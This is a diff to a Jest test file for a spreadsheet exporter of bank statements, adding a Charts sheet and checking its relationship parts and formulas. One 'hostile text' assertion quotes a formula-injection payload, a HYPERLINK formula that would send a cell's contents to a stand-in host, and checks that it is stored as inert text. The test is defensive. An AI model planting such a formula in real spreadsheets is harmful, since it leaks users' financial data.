@@ -1,4 +1,5 @@
 // The workbook read back the way a user's Excel would read it: values, types, formats and layout.
+import path from 'node:path';
 import { describe, expect, test } from '@jest/globals';
 import ExcelJS from 'exceljs';
 import JSZip from 'jszip';
@@ -29,9 +30,9 @@ const xmlFiles = async (buffer: Buffer) => {
 };
 
 describe('toXlsx: the Transactions sheet', () => {
-  test('when a statement has one account, then the sheets are Transactions and Summary', async () => {
+  test('when a statement has one account, then the sheets are Transactions, Summary, By category and Charts', async () => {
     const workbook = await load(await toXlsx(aStatement()));
-    expect(workbook.worksheets.map((s) => s.name)).toEqual(['Transactions', 'Summary', 'By category']);
+    expect(workbook.worksheets.map((s) => s.name)).toEqual(['Transactions', 'Summary', 'By category', 'Charts']);
   });
 
   test('when written, then the header is bold, frozen and filtered, and rows hold typed values', async () => {
@@ -75,7 +76,13 @@ describe('toXlsx: the Transactions sheet', () => {
       const target = new RegExp(`Id="${id}"[^>]*Target="([^"]+)"`).exec(rels)?.[1];
       expect(names).toContain(`xl/${target}`);
     }
-    expect([...workbookXml.matchAll(/<sheet /g)]).toHaveLength(4);
+    expect([...workbookXml.matchAll(/<sheet /g)]).toHaveLength(5);
+    // The chart sheet's drawing and its charts are related, each part the relationships name present.
+    for (const relsName of names.filter((n) => /^xl\/(worksheets|drawings)\/_rels\//.test(n))) {
+      const dir = relsName.replace(/_rels\/[^/]+$/, '');
+      for (const [, target] of (await zip.file(relsName)!.async('string')).matchAll(/Target="([^"]+)"/g)) expect(names).toContain(path.posix.normalize(dir + target));
+    }
+    expect(names.filter((n) => n.startsWith('xl/charts/'))).toEqual(['xl/charts/chart1.xml', 'xl/charts/chart2.xml', 'xl/charts/chart3.xml', 'xl/charts/chart4.xml']);
   });
 
   test('when a balance is not printed, then its cell is empty', async () => {
@@ -133,7 +140,7 @@ describe('toXlsx: several accounts', () => {
       accounts: [anAccount(), anAccount({ accountNumber: '87654321', currency: 'EUR', transactions: [aTransaction({ amount: -5 })] })],
     });
     const workbook = await load(await toXlsx(statement));
-    expect(workbook.worksheets.map((s) => s.name)).toEqual(['Transactions 12345678', 'Transactions 87654321', 'Summary', 'By category']);
+    expect(workbook.worksheets.map((s) => s.name)).toEqual(['Transactions 12345678', 'Transactions 87654321', 'Summary', 'By category', 'Charts']);
     expect(workbook.getWorksheet('Transactions 87654321')!.getRow(2).getCell(7).numFmt).toBe('[$EUR] #,##0.00');
     expect(workbook.getWorksheet('Transactions 87654321')!.autoFilter).toBe('A1:I2');
   });
@@ -178,7 +185,7 @@ describe('toXlsx: long statements', () => {
       ],
     });
     const workbook = await load(await toXlsx(statement));
-    expect(workbook.worksheets.map((s) => s.name)).toEqual(['Transactions 12345678', 'Transactions 87654321', 'Summary', 'By category']);
+    expect(workbook.worksheets.map((s) => s.name)).toEqual(['Transactions 12345678', 'Transactions 87654321', 'Summary', 'By category', 'Charts']);
     const first = workbook.getWorksheet('Transactions 12345678')!;
     const second = workbook.getWorksheet('Transactions 87654321')!;
     expect(first.rowCount).toBe(3001);
@@ -302,8 +309,12 @@ describe('toXlsx: hostile text', () => {
 
     const xml = await xmlFiles(buffer);
     const sheets = Object.entries(xml).filter(([name]) => name.startsWith('xl/worksheets/sheet'));
-    expect(sheets).toHaveLength(3);
-    for (const [, sheetXml] of sheets) expect(sheetXml).not.toMatch(/<f[\s>]/);
+    expect(sheets).toHaveLength(4);
+    for (const [, sheetXml] of sheets.slice(0, 3)) expect(sheetXml).not.toMatch(/<f[\s>]/);
+    // The chart sheet's formulas are its own: references to the rows' cells, sums and SUMIFS, never a statement's text.
+    const formulas = [...sheets[3][1].matchAll(/<f>([^<]*)<\/f>/g)].map((m) => m[1]);
+    expect(formulas.length).toBeGreaterThan(0);
+    for (const f of formulas) expect(f).toMatch(/^(SUMIFS\()?('(Transactions|Summary)'!|[-+$A-Z0-9:,.()])*$/);
     expect(xml['xl/sharedStrings.xml']).toContain('=HYPERLINK(&quot;http://evil.test/?leak=&quot;&amp;A1,&quot;Click&quot;)');
     expect(xml['xl/sharedStrings.xml']).not.toContain(">'=");
 
